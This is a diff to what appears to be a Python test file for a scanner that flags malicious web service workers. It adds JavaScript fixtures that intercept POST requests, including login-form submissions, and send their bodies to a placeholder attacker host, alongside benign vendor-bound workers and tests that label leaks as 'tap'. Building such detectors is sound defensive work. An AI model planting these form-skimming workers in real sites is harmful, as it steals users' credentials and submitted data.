@@ -10,6 +10,10 @@ from tests.checks.content.scripting import EVIL, in_file, on_page
 
 WORKERS = [
     (
+        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST')fetch(q.clone(),"
+        f"{{a:1}}).then(r=>q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}})))}})"
+    ),
+    (
         "self.addEventListener('fetch',e=>{const r=e.request;if(r.method==='POST'"
         "){const c=r.clone();"
         f"c.text().then(b=>fetch('{EVIL}/i',{{method:'POST',mode:'no-cors',body:b}}))}}}});"
@@ -32,6 +36,32 @@ WORKERS = [
         "self.addEventListener('fetch',e=>{const k=e.request.clone();k.formData().then(d=>fetch("
         f"'{EVIL}/c',{{method:'POST',body:new URLSearchParams(d)}}))}})"
     ),
+    (
+        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST'&&q.url.includes("
+        f"'/masuk')){{q.clone().text().then(b=>fetch('{EVIL}/i',{{method:'POST',body:b}}))}}}})"
+    ),
+    (
+        "self.addEventListener('fetch',e=>{const q=e.request;e.respondWith(fetch(q).catch(tunda));"
+        f"if(q.method==='POST')q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}}))}})"
+    ),
+]
+COPY = "q.clone().text().then(b=>fetch('https://api.vendor.example/q',{method:'POST',body:b}))"
+HEARD = "self.addEventListener('fetch',e=>{const q=e.request,u=new URL(q.url);"
+WANTED = [
+    "u.hostname.endsWith('vendor.example')",
+    "u.host==='api.vendor.example'",
+    "q.url.startsWith('https://api.vendor.example/')",
+    "q.url.indexOf('vendor.example')>-1",
+    "q.url.indexOf('vendor.example')>=0",
+    "/vendor\\.example/.test(q.url)",
+]
+UNWANTED = [
+    "u.hostname!=='api.vendor.example'",
+    "!q.url.startsWith('https://api.vendor.example/')",
+    "!u.host.includes('vendor.example')",
+    "q.url.indexOf('vendor.example')<0",
+    "q.url.indexOf('vendor.example')===-1",
+    "!/vendor\\.example/.test(q.url)",
 ]
 HONEST_WORKERS = [
     # Answers are kept for when there is no connection.
@@ -59,6 +89,38 @@ HONEST_WORKERS = [
         "const c=r.clone();fetch('https://ukur.example/e',{method:'POST',body:Str"
         "ing(Date.now()-t)});"
         "return c}))})"
+    ),
+    # What a vendor is posted is posted to it again, however the worker tells it.
+    *(
+        "self.addEventListener('fetch',e=>{const q=e.request,u=new URL(q.url);if(q.method==='POST'"
+        f"&&{test}){{q.clone().text().then(b=>fetch('https://vendor.example/antre',{{method:'POST',"
+        "body:b}))}})"
+        for test in (
+            "q.url.startsWith('https://vendor.example/')",
+            "u.hostname==='vendor.example'",
+            "/vendor\\.example/.test(q.url)",
+        )
+    ),
+    (
+        "const V='https://vendor.example';self.addEventListener('fetch',e=>{const q=e.request;"
+        "if(q.method!=='POST'||new URL(q.url).origin!==V)return;q.clone().text().then(body=>"
+        "fetch(V+'/ulang',{method:'POST',body}))})"
+    ),
+    # What could not be posted is left with a vendor.
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
+        "e.respondWith(fetch(e.request).then(r=>r,()=>c.text().then(b=>fetch('https://vendor.example"
+        "/q',{method:'POST',body:b}))))}})"
+    ),
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
+        "e.respondWith(fetch(e.request).catch(async()=>fetch('https://vendor.example/q',{method:"
+        "'POST',body:await c.text()})))}})"
+    ),
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST')e.respondWith((async()=>{"
+        "const c=e.request.clone();try{return await fetch(e.request)}catch(x){const b=await "
+        "c.text();return fetch('https://vendor.example/q',{method:'POST',body:b})}})())})"
     ),
     "self.addEventListener('push',e=>{self.registration.showNotification(e.data.text())})",
 ]
@@ -287,3 +349,21 @@ def test_frames_unseen_under_the_pointer(source: str) -> None:
 @pytest.mark.parametrize("source", HONEST_UNDER)
 def test_frames_and_what_follows_the_pointer(source: str) -> None:
     assert in_file(source).outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize("test", WANTED)
+def test_a_worker_that_sends_again_what_its_vendor_is_posted(test: str) -> None:
+    source = f"{HEARD}if(q.method==='POST'&&{test}){{{COPY}}}}})"
+    assert in_file(source, kind="worker").outcome is Outcome.PASS
+    # Whoever passes by that host copies all else.
+    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
+    assert in_file(source, kind="worker").message == "tap"
+
+
+@pytest.mark.parametrize("test", UNWANTED)
+def test_a_worker_that_copies_all_that_is_not_posted_to_its_own_host(test: str) -> None:
+    for act in (f"{{{COPY}}}", f"{{return {COPY}}}"):
+        source = f"{HEARD}if(q.method==='POST'&&{test}){act}}})"
+        assert in_file(source, kind="worker").message == "tap"
+    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
+    assert in_file(source, kind="worker").outcome is Outcome.PASS
